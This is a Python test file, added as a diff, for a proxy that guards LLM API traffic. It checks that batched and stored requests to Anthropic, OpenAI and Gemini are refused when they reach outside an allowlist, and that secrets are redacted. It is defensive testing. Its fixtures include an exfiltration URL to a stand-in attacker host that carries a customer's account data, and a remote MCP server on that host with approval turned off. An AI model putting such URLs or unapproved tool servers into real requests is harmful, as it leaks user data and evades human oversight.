@@ -1,0 +1,346 @@
+"""Requests the provider stores to run later, and context it stores to read later, are read as the request
+they carry: an Anthropic Message Batch, an OpenAI batch input file (line by line), Gemini cached contents
+and inline batches, OpenAI conversations and their items, Realtime sessions and client secrets, Assistants
+threads, their messages and runs. A remote MCP server or an address the API would fetch outside the
+allowlist is refused there as on the request's own route; an allowlisted address and a filtered web search
+pass. Read by unit, then end to end through a real egressguard in enforce mode with the official SDKs."""
+
+from __future__ import annotations
+
+import io
+import json
+from collections.abc import Callable
+from typing import Any
+
+import anthropic
+import openai
+import pytest
+
+from proxy.detectors.tools import MCP_SERVER_EGRESS_RULE, PROVIDER_FETCH_RULE
+from proxy.dialects import Anthropic, Gemini, OpenAIChat, OpenAIResponses, Stored, detect
+from proxy.exchange import RequestView
+from tests.harness import Proxy
+from tests.test_e2e_declared_tools import refusals
+from tests.test_e2e_inspect import AWS_KEY, _agent, anthropic_client, last_record, openai_client
+from tests.test_e2e_provider_fetch import gemini_client
+from tests.upstream import FakeUpstream, Reply
+
+OUTSIDE = "https://attacker.example/c?d=customer-row-jane-doe-acct-99812"
+INSIDE = "https://docs.example/guide.pdf"
+EVIL_MCP = {"type": "mcp", "server_label": "evil", "server_url": "https://attacker.example/mcp"}
+UNASKED_MCP = {**EVIL_MCP, "require_approval": "never"}
+FILTERED_SEARCH = {"type": "web_search", "filters": {"allowed_domains": ["docs.example"]}}
+MESSAGES = {
+    "model": "m",
+    "max_tokens": 10,
+    "messages": [
+        {"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": OUTSIDE}}]}
+    ],
+    "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "evil"}],
+}
+GEMINI = {
+    "contents": [
+        {"role": "user", "parts": [{"fileData": {"fileUri": OUTSIDE, "mimeType": "application/pdf"}}]}
+    ],
+    "tools": [{"urlContext": {}}],
+}
+
+
+def image(url: str) -> dict[str, Any]:
+    return {"role": "user", "content": [{"type": "input_image", "image_url": url}]}
+
+
+def chat_image(url: str) -> dict[str, Any]:
+    return {"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}
+
+
+def batch_line(custom_id: str, url: str, body: dict[str, Any]) -> str:
+    return json.dumps({"custom_id": custom_id, "method": "POST", "url": url, "body": body})
+
+
+def read(method_path: str, body: dict[str, Any]) -> RequestView:
+    method, path = method_path.split(" ")
+    encoded = json.dumps(body).encode()
+    return detect(method, path, "application/json", encoded).parse_request(encoded)
+
+
+def checked(view: RequestView) -> tuple[list[str], list[tuple[str, str | None]]]:
+    return [tool.where for tool in view.declared_tools], [(fetch.where, fetch.url) for fetch in view.fetches]
+
+
+ROUTES: list[tuple[str, dict[str, Any], tuple[list[str], list[tuple[str, str | None]]]]] = [
+    (
+        "POST /v1/messages/batches",
+        {"requests": [{"custom_id": "a", "params": MESSAGES}]},
+        (
+            ["requests[0].params.mcp_servers[0]"],
+            [("requests[0].params.messages[0].content[0].source.url", OUTSIDE)],
+        ),
+    ),
+    (
+        "POST /v1beta/cachedContents",
+        {"model": "models/g", **GEMINI},
+        ([], [("contents[0].parts[0].fileData.fileUri", OUTSIDE), ("tools[0].urlContext", None)]),
+    ),
+    (
+        "POST /v1beta/models/g:batchGenerateContent",
+        {
+            "batch": {
+                "inputConfig": {"requests": {"requests": [{"request": GEMINI, "metadata": {"key": "k"}}]}}
+            }
+        },
+        (
+            [],
+            [
+                (
+                    "batch.inputConfig.requests.requests[0].request.contents[0].parts[0].fileData.fileUri",
+                    OUTSIDE,
+                ),
+                ("batch.inputConfig.requests.requests[0].request.tools[0].urlContext", None),
+            ],
+        ),
+    ),
+    (
+        "POST /v1/conversations",
+        {"items": [image(OUTSIDE)]},
+        ([], [("items[0].content[0].image_url", OUTSIDE)]),
+    ),
+    (
+        "POST /v1/conversations/conv_1/items",
+        {"items": [image(INSIDE)]},
+        ([], [("items[0].content[0].image_url", INSIDE)]),
+    ),
+    (
+        "POST /v1/realtime/client_secrets",
+        {"session": {"type": "realtime", "tools": [UNASKED_MCP]}},
+        (["session.tools[0]"], []),
+    ),
+    ("POST /v1/realtime/sessions", {"model": "m", "tools": [EVIL_MCP]}, (["tools[0]"], [])),
+    (
+        "POST /v1/threads",
+        {"messages": [chat_image(OUTSIDE)]},
+        ([], [("messages[0].content[0].image_url.url", OUTSIDE)]),
+    ),
+    (
+        "POST /v1/threads/runs",
+        {"assistant_id": "a", "thread": {"messages": [chat_image(OUTSIDE)]}},
+        ([], [("thread.messages[0].content[0].image_url.url", OUTSIDE)]),
+    ),
+    (
+        "POST /v1/threads/thread_1/messages",
+        chat_image(OUTSIDE),
+        ([], [("content[0].image_url.url", OUTSIDE)]),
+    ),
+    (
+        "POST /v1/threads/thread_1/runs",
+        {"assistant_id": "a", "additional_messages": [chat_image(OUTSIDE)]},
+        ([], [("additional_messages[0].content[0].image_url.url", OUTSIDE)]),
+    ),
+]
+
+
+@pytest.mark.parametrize(("route", "body", "expected"), ROUTES, ids=[route for route, _, _ in ROUTES])
+def test_each_stored_route_is_read_as_the_request_it_carries(
+    route: str, body: dict[str, Any], expected: tuple[list[str], list[tuple[str, str | None]]]
+) -> None:
+    view = read(route, body)
+    assert view.dialect == Stored.name
+    assert checked(view) == expected
+
+
+def test_routes_that_store_no_model_input_and_the_direct_routes_are_read_as_before() -> None:
+    assert isinstance(detect("POST", "/v1/messages", None, json.dumps(MESSAGES).encode()), Anthropic)
+    assert isinstance(detect("POST", "/v1/responses", None, b"{}"), OpenAIResponses)
+    assert isinstance(detect("POST", "/v1beta/models/g:generateContent", None, b"{}"), Gemini)
+    assert isinstance(detect("POST", "/v1/chat/completions", None, b"{}"), OpenAIChat)
+    for path in (
+        "/v1/files/file-1/content",
+        "/v1/batches",
+        "/v1/messages/batches/b_1/results",
+        "/v1/threads/t/runs/r",
+    ):
+        assert not isinstance(detect("POST", path, None, b"{}"), Stored), path
+    # A conversation's items that fetch nothing and declare nothing leave nothing to check.
+    assert checked(read("POST /v1/conversations", {"items": [{"role": "user", "content": "hi"}]})) == ([], [])
+
+
+def test_the_strings_no_dialect_reads_are_still_read_and_each_prompt_once() -> None:
+    body = {"metadata": {"note": AWS_KEY}, "items": [{"role": "user", "content": "summarise"}]}
+    parts = {part.where: part.text for part in read("POST /v1/conversations", body).parts}
+    assert parts["metadata.note"] == AWS_KEY
+    assert parts["items[0].content"] == "summarise"
+    assert len(parts) == len(read("POST /v1/conversations", body).parts)
+
+
+BOUNDARY = "batchboundary"
+
+
+def batch_upload(*lines: str) -> bytes:
+    return (
+        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nbatch\r\n'
+        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="b.jsonl"\r\n'
+        "Content-Type: application/jsonl\r\n\r\n" + "\n".join(lines) + f"\n\r\n--{BOUNDARY}--\r\n"
+    ).encode()
+
+
+def test_a_batch_input_file_is_read_line_by_line_and_rewritten_in_its_line() -> None:
+    responses = batch_line(
+        "r1", "/v1/responses", {"model": "m", "input": f"key {AWS_KEY}", "tools": [UNASKED_MCP]}
+    )
+    chat = batch_line("r2", "/v1/chat/completions", {"model": "m", "messages": [chat_image(OUTSIDE)]})
+    embeddings = batch_line("r3", "/v1/embeddings", {"model": "e", "input": "plain"})
+    gemini = json.dumps({"key": "g1", "request": GEMINI})
+    body = batch_upload(responses, chat, embeddings, "not json", gemini)
+    dialect = detect("POST", "/v1/files", "multipart/form-data", body)
+    view = dialect.parse_request(body)
+    assert checked(view) == (
+        ["multipart[1][0].body.tools[0]"],
+        [
+            ("multipart[1][1].body.messages[0].content[0].image_url.url", OUTSIDE),
+            ("multipart[1][4].request.contents[0].parts[0].fileData.fileUri", OUTSIDE),
+            ("multipart[1][4].request.tools[0].urlContext", None),
+        ],
+    )
+    parts = {part.where: part.text for part in view.parts}
+    assert parts["multipart[0][0]"] == "batch" and parts["multipart[1][3]"] == "not json"
+    assert parts["multipart[1][2].body.input"] == "plain"
+    rewritten = dialect.rewrite_request(body, {"multipart[1][0].body.input": "key [REDACTED]"})
+    lines = rewritten.split(b"\r\n\r\n")[-1].split(b"\n")
+    assert json.loads(lines[0])["body"]["input"] == "key [REDACTED]"
+    assert lines[1:5] == [line.encode() for line in (chat, embeddings, "not json", gemini)]
+    # A file of one line is a JSON document, read as the line it is.
+    single = json.dumps({"key": "g1", "request": GEMINI}).encode()
+    alone = detect("POST", "/upload/v1beta/files", None, single).parse_request(single)
+    assert checked(alone)[1][-1] == ("request.tools[0].urlContext", None)
+
+
+def test_a_computer_screenshot_by_url_is_an_address_the_api_fetches() -> None:
+    item = {
+        "type": "computer_call_output",
+        "call_id": "c",
+        "output": {"type": "computer_screenshot", "image_url": OUTSIDE},
+    }
+    view = read("POST /v1/responses", {"model": "m", "input": [item]})
+    assert checked(view) == ([], [("input[0].output.image_url", OUTSIDE)])
+
+
+@pytest.fixture
+def enforce(start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch) -> Proxy:
+    allow = "[api.openai.com, api.anthropic.com, 'localhost:*', docs.example, '*.docs.example']"
+    return _agent(
+        start_proxy(mode="enforce", allow=allow, extra="redaction: {requests: true}\n"), monkeypatch
+    )
+
+
+def test_message_batches_are_refused_as_messages_are_and_allowed_ones_pass(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    client = anthropic_client(upstream)
+    with pytest.raises(anthropic.PermissionDeniedError):
+        client.messages.batches.create(requests=[{"custom_id": "a", "params": MESSAGES}])  # type: ignore[typeddict-item]
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", MCP_SERVER_EGRESS_RULE, "requests[0].params.mcp_servers[0]", True),
+        ("tool_abuse", "tool-mcp-unrestricted", "requests[0].params.mcp_servers[0]", True),
+        (
+            "lateral_movement",
+            PROVIDER_FETCH_RULE,
+            "requests[0].params.messages[0].content[0].source.url",
+            True,
+        ),
+    ]
+    upstream.reply = Reply(
+        body=b'{"id":"msgbatch_1","type":"message_batch","processing_status":"in_progress"}'
+    )
+    search = {"type": "web_search_20250305", "name": "web_search", "allowed_domains": ["docs.example"]}
+    params = {
+        "model": "m",
+        "max_tokens": 10,
+        "messages": [
+            {"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": INSIDE}}]}
+        ],
+        "tools": [search],
+    }
+    client.messages.batches.create(requests=[{"custom_id": "a", "params": params}])  # type: ignore[typeddict-item]
+    assert json.loads(upstream.received[-1].body)["requests"][0]["params"] == params
+    assert refusals(last_record(enforce, 2)) == []
+
+
+def test_a_batch_input_file_is_refused_line_by_line_and_its_secrets_redacted(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    client = openai_client(upstream)
+    clean = batch_line(
+        "r1", "/v1/responses", {"model": "m", "input": "what changed?", "tools": [FILTERED_SEARCH]}
+    )
+    unasked = batch_line("r2", "/v1/responses", {"model": "m", "input": "run it", "tools": [UNASKED_MCP]})
+    with pytest.raises(openai.PermissionDeniedError):
+        client.files.create(file=("b.jsonl", io.BytesIO(f"{clean}\n{unasked}\n".encode())), purpose="batch")
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", MCP_SERVER_EGRESS_RULE, "multipart[1][1].body.tools[0]", True),
+        ("tool_abuse", "tool-mcp-unrestricted", "multipart[1][1].body.tools[0]", True),
+    ]
+    upstream.reply = Reply(
+        body=b'{"id":"file-1","object":"file","bytes":1,"created_at":1,"filename":"b.jsonl","purpose":"batch","status":"processed"}'
+    )
+    keyed = batch_line(
+        "r3",
+        "/v1/chat/completions",
+        {"model": "m", "messages": [{"role": "user", "content": f"key {AWS_KEY}"}]},
+    )
+    client.files.create(file=("b.jsonl", io.BytesIO(f"{clean}\n{keyed}\n".encode())), purpose="batch")
+    sent = upstream.received[-1].body
+    assert clean.encode() in sent and AWS_KEY.encode() not in sent
+    assert refusals(last_record(enforce, 2)) == []
+
+
+def test_conversations_threads_and_realtime_secrets_are_refused_as_their_requests_are(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    client = openai_client(upstream)
+    with pytest.raises(openai.PermissionDeniedError):
+        client.conversations.create(items=[image(OUTSIDE)])  # type: ignore[list-item]
+    with pytest.raises(openai.PermissionDeniedError):
+        client.conversations.items.create("conv_1", items=[image(OUTSIDE)])  # type: ignore[list-item]
+    with pytest.raises(openai.PermissionDeniedError):
+        client.beta.threads.create(messages=[chat_image(OUTSIDE)])  # type: ignore[list-item]
+    with pytest.raises(openai.PermissionDeniedError):
+        client.realtime.client_secrets.create(session={"type": "realtime", "tools": [UNASKED_MCP]})  # type: ignore[arg-type]
+    assert upstream.received == []
+    assert [refusals(last_record(enforce, count))[0][2] for count in (1, 2, 3, 4)] == [
+        "items[0].content[0].image_url",
+        "items[0].content[0].image_url",
+        "messages[0].content[0].image_url.url",
+        "session.tools[0]",
+    ]
+    upstream.reply = Reply(body=b'{"id":"conv_1","object":"conversation","created_at":1,"metadata":{}}')
+    client.conversations.create(items=[image(INSIDE)])  # type: ignore[list-item]
+    assert json.loads(upstream.received[-1].body)["items"] == [image(INSIDE)]
+    assert refusals(last_record(enforce, 5)) == []
+
+
+def test_gemini_cached_contents_are_refused_as_generate_content_is(
+    enforce: Proxy, upstream: FakeUpstream
+) -> None:
+    from google.genai import errors, types
+
+    client = gemini_client(upstream)
+    outside = types.Part.from_uri(file_uri=OUTSIDE, mime_type="application/pdf")
+    with pytest.raises(errors.ClientError):
+        client.caches.create(
+            model="gemini-2.5-flash",
+            config=types.CreateCachedContentConfig(contents=[types.Content(role="user", parts=[outside])]),
+        )
+    assert upstream.received == []
+    assert refusals(last_record(enforce)) == [
+        ("lateral_movement", PROVIDER_FETCH_RULE, "contents[0].parts[0].fileData.file_uri", True)
+    ]
+    upstream.reply = Reply(body=b'{"name":"cachedContents/1","model":"models/gemini-2.5-flash"}')
+    inside = types.Part.from_uri(file_uri=INSIDE, mime_type="application/pdf")
+    client.caches.create(
+        model="gemini-2.5-flash",
+        config=types.CreateCachedContentConfig(contents=[types.Content(role="user", parts=[inside])]),
+    )
+    assert INSIDE in upstream.received[-1].body.decode()
+    assert refusals(last_record(enforce, 2)) == []
